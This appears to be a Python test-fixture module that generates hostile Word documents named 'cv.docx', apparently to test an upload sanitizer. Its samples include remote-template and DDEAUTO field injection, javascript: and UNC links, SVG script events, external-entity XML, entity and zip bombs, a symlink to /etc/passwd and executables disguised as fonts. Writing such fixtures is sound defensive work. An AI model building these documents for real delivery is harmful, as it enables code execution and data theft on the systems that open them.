"""Sly Word documents: parts that fetch, fields that run, zips that show one thing and hold another."""

import io
import struct
import zipfile
from collections.abc import Iterator

from tests.applicants.documents import corpus_files as parts

RELATIONS = "word/_rels/document.xml.rels"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
FIELDS = (
    'LINK Excel.Sheet.8 "C:\\\\x.xls" "R1C1"',
    'INCLUDETEXT "https://evil.example/x"',
    "IMPORT https://evil.example/x.png",
    "MACROBUTTON Run click",
    'DATABASE \\d "C:\\\\x.mdb"',
    "ddeauto Excel x",
    'HYPERLINK "file://evil/share/x.exe"',
    'HYPERLINK "\\\\\\\\evil\\\\share\\\\x"',
    'HYPERLINK "javascript:alert(1)"',
    'RD "https://evil.example/x.docx"',
    "PRINT 27 x",
)


def fetching() -> Iterator[tuple[str, bytes]]:
    """Yield documents that bring something in from elsewhere, or run it."""
    for kind, target in (
        ("attachedTemplate", "HTTPS://evil.example/x.dotm"),
        ("attachedTemplate", "file://evil/share/x.dotm"),
        ("attachedTemplate", "mhtml:https://evil.example!x-usc:https://evil.example/x"),
        ("image", "file://evil/share/x.png"),
        ("hyperlink", "\\\\evil\\share"),
        ("hyperlink", "JavaScript:alert(1)"),
        ("hyperlink", "data:text/html,x"),
        ("hyperlink", "search-ms:query=x"),
        ("footer", "https://evil.example/x.xml"),
        ("settings", "https://evil.example/x.xml"),
        ("theme", "https://evil.example/x.xml"),
        ("stylesWithEffects", "https://evil.example/x"),
        ("mailMergeSource", "file:///c:/x.csv"),
        ("recipientData", "https://evil.example/x"),
        ("externalLinkPath", "https://evil.example/x.xlsx"),
        ("transform", "https://evil.example/x.xslt"),
        ("media", "https://evil.example/x.mp4"),
        ("audio", "https://evil.example/x.mp3"),
    ):
        yield f"a {kind} at {target}", parts.docx({RELATIONS: parts.relations((kind, target, True))})
    for part in ("word/_rels/settings.xml.rels", "word/_rels/header1.xml.rels", "_rels/.rels"):
        row = ("attachedTemplate", "https://evil.example/x.dotm", True)
        yield f"a template in {part}", parts.docx({part: parts.relations(row)})
    odd = parts.relations(("image", "https://evil.example/x", False))
    yield "an address that is not said to be outside", parts.docx({RELATIONS: odd})
    yield (
        "an outside in capitals",
        parts.docx(
            {
                RELATIONS: parts.relations(("frame", "https://evil.example/x", True)).replace(
                    "External", "EXTERNAL"
                )
            }
        ),
    )
    strict = parts.relations(("oleObject", "x.bin", False)).replace(parts.RELATIONS, STRICT)
    yield "an object by its strict name", parts.docx({RELATIONS: strict})
    yield from running()


def running() -> Iterator[tuple[str, bytes]]:
    """Yield documents with parts and fields that run something."""
    for kind in (
        "customUI",
        "ui/extensibility",
        "ui/userCustomization",
        "attachedToolbars",
        "wordVbaData",
        "activeXControl",
    ):
        yield (
            f"a {kind}",
            parts.docx(
                {
                    "_rels/.rels": parts.relations(
                        ("officeDocument", "word/document.xml", False),
                        (kind, "customUI/customUI14.xml", False),
                    )
                }
            ),
        )
    for field in FIELDS:
        inside = f"<w:r><w:instrText>{field}</w:instrText></w:r>"
        yield f"field {field}", parts.docx({"word/document.xml": parts.paragraph(inside)})
        deleted = f"<w:del><w:r><w:delInstrText>{field}</w:delInstrText></w:r></w:del>"
        yield f"deleted field {field}", parts.docx({"word/document.xml": parts.paragraph(deleted)})
    header = parts.paragraph('<w:r><w:instrText>DDEAUTO c:\\x "y"</w:instrText></w:r>').replace(
        "w:document", "w:hdr"
    )
    yield "a field in a header", parts.docx({"word/header1.xml": header})
    yield from embedding()


def embedding() -> Iterator[tuple[str, bytes]]:
    """Yield documents with elements and drawings that fetch or run."""
    for element in (
        "altChunk",
        "control",
        "object",
        "OLEObject",
        "oleObject",
        "subDoc",
        "movie",
        "webVideoPr",
        "scriptAnchor",
    ):
        body = parts.paragraph(f"<w:r><w:{element} r:id='r0'/></w:r>")
        yield f"an element {element}", parts.docx({"word/document.xml": body})
    prefixed = parts.paragraph(f"<q:object xmlns:q='{parts.WORD}'/>")
    yield "an object by another prefix", parts.docx({"word/document.xml": prefixed})
    yield "an event in a drawing", parts.docx({"word/media/a.svg": "<svg onload='alert(1)'/>"})
    yield (
        "a script link in a drawing",
        parts.docx({"word/media/a.svg": "<svg xmlns:x='x'><a x:href='javascript:alert(1)'/></svg>"}),
    )
    yield (
        "a drawing that fetches",
        parts.docx({"word/media/a.svg": "<svg><image href='https://evil.example/x'/></svg>"}),
    )
    yield (
        "a style sheet",
        parts.docx({"word/a.xml": "<?xml-stylesheet href='https://evil.example/x.xsl'?><a/>"}),
    )


def encoded() -> Iterator[tuple[str, bytes]]:
    """Yield documents whose XML says it in another way."""
    laughs = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'
    yield "laughs in wide letters", parts.docx({"word/document.xml": laughs.encode("utf-16")})
    seven = "<?xml version='1.0' encoding='UTF-7'?>+ADw-script+AD4-"
    yield "seven-bit letters", parts.docx({"word/document.xml": seven.encode()})
    outside = '<!DOCTYPE a SYSTEM "https://evil.example/x.dtd"><a/>'
    yield "a DTD elsewhere", parts.docx({"word/settings.xml": outside})
    parameter = '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]><a/>'
    yield "a parameter entity", parts.docx({"word/document.xml": parameter})
    yield (
        "a DTD in its types",
        parts.docx({"[Content_Types].xml": '<!DOCTYPE a [<!ENTITY b "c">]>' + parts.TYPES[21:]}),
    )
    yield (
        "elements a hundred thousand deep",
        parts.docx({"word/document.xml": "<a>" * 100_000 + "</a>" * 100_000}),
    )
    yield (
        "a million attributes",
        parts.docx({"word/document.xml": "<a " + " ".join(f"a{n}='1'" for n in range(390_000)) + "/>"}),
    )
    yield "three million elements", parts.docx({"word/document.xml": "<a>" + "<b/>" * 3_000_000 + "</a>"})
    field = "<w:r><w:instrText>" + "PAGE " * 4_000_000 + "</w:instrText></w:r>"
    yield "a field of twenty million letters", parts.docx({"word/document.xml": parts.paragraph(field)})
    wide = ("<?xml version='1.0' encoding='UTF-16'?>" + parts.paragraph("<w:object/>")[38:]).encode("utf-16")
    yield "an object in wide letters", parts.docx({"word/document.xml": wide})
    yield "nothing but a null", parts.docx({"word/document.xml": b"\0"})


def zips() -> Iterator[tuple[str, bytes]]:
    """Yield documents whose zip lies."""
    yield "a part twice", doubled("word/document.xml")
    yield "a part twice in other letters", doubled("WORD/Document.xml")
    yield "a part twice by its slashes", doubled("word//document.xml")
    yield "a part twice by its dots", doubled("word/./document.xml")
    yield "a locked part", flagged()
    yield "a local name that differs", renamed()
    yield "a part before its table", hidden_part()
    yield "a larger number of parts", miscounted(2000)
    yield "a smaller number of parts", miscounted(1)
    for name in ("bzip2", "lzma"):
        yield f"packed with {name}", packed_with(getattr(zipfile, f"ZIP_{name.upper()}"))
    yield "a checksum that is wrong", broken_sum()
    yield "a part named with a null", parts.docx({"word/a.xmlQ.exe": "<a/>"}).replace(b"xmlQ", b"xml\0")
    yield "a part named with a line end", parts.docx({"word/a\n.xml": "<a/>"})
    yield "a part with a stream name", parts.docx({"word/a.xml:evil.xml": "<a/>"})
    yield "a link instead of a part", linked()
    yield (
        "a zip in it by the name of a font",
        parts.docx({"word/fonts/a.ttf": parts.zipped({"evil.exe": "MZ"})}),
    )
    yield "a program by the name of a font", parts.docx({"word/fonts/a.odttf": b"MZ\x90\0" + bytes(500)})
    yield (
        "a program by the name of printer settings",
        parts.docx({"word/printerSettings1.bin": b"MZ\x90\0" + bytes(500)}),
    )
    yield (
        "a compound file by the name of printer settings",
        parts.docx({"word/printerSettings1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)}),
    )
    yield "fonts that explode", parts.docx({f"word/fonts/{n}.ttf": bytes(20_000_000) for n in range(3)})
    yield (
        "pictures that explode",
        parts.docx({f"word/media/{n}.bmp": b"BM" + bytes(24_000_000) for n in range(3)}),
    )
    yield (
        "a picture of 60,000 by 60,000",
        parts.docx({"word/media/image1.png": parts.empty_png(60_000, 60_000)}),
    )
    for name in ("xl/workbook.xml", "ppt/presentation.xml"):
        yield f"with {name} only", parts.docx({name: "<a/>"}, without=("word/document.xml",))
    yield (
        "a bare zip with two right names",
        parts.zipped({"[Content_Types].xml": "<a/>", "word/document.xml": "<a/>"}),
    )


def doubled(name: str) -> bytes:
    """Return a document with one more part that some readers take for its main part."""
    target = io.BytesIO(parts.docx())
    with zipfile.ZipFile(target, "a") as archive:
        archive._didModify = True  # noqa: SLF001 - a name twice is a warning otherwise
        info = zipfile.ZipInfo("word/twice-padded.xml"[: len(name)].ljust(len(name), "x"))
        archive.writestr(info, "<a/>")
    return target.getvalue().replace(info.filename.encode(), name.encode())


def flagged() -> bytes:
    """Return a document with a part that says it is encrypted."""
    body = bytearray(parts.docx())
    body[body.index(b"PK\x01\x02") + 8] |= 1
    return bytes(body)


def renamed() -> bytes:
    """Return a document whose first part has another name where it stands than in the table."""
    body = parts.docx()
    return body.replace(b"[Content_Types].xml", b"[Content_Types].exe", 1)


def hidden_part() -> bytes:
    """Return a document with a part between the last one and the table, which the table does not name."""
    body = parts.docx()
    hidden = parts.zipped({"evil.exe": b"MZ"})
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    at = body.index(b"PK\x01\x02")
    end = bytearray(body[at:])
    place = end.rindex(b"PK\x05\x06") + 16
    end[place : place + 4] = struct.pack("<I", at + len(hidden))
    return body[:at] + hidden + bytes(end)


def miscounted(count: int) -> bytes:
    """Return a document whose last record says another number of parts."""
    body = bytearray(parts.docx())
    at = body.rindex(b"PK\x05\x06") + 8
    body[at : at + 4] = struct.pack("<HH", count, count)
    return bytes(body)


def packed_with(method: int) -> bytes:
    """Return a document packed in a way that Word does not read."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(parts.docx())) as source, zipfile.ZipFile(target, "w", method) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
    return target.getvalue()


def broken_sum() -> bytes:
    """Return a document with a part whose checksum is wrong."""
    body = bytearray(parts.docx())
    for mark, place in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        body[body.index(mark) + place] ^= 1
    return bytes(body)


def linked() -> bytes:
    """Return a document with a symbolic link among its parts."""
    target = io.BytesIO(parts.docx())
    with zipfile.ZipFile(target, "a") as archive:
        info = zipfile.ZipInfo("word/a.xml")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return target.getvalue()


def documents() -> Iterator[tuple[str, str, bytes]]:
    """Yield every one as (what, name, bytes)."""
    for source in (fetching, encoded, zips):
        for what, body in source():
            yield f"{source.__name__}: {what}", "cv.docx", body
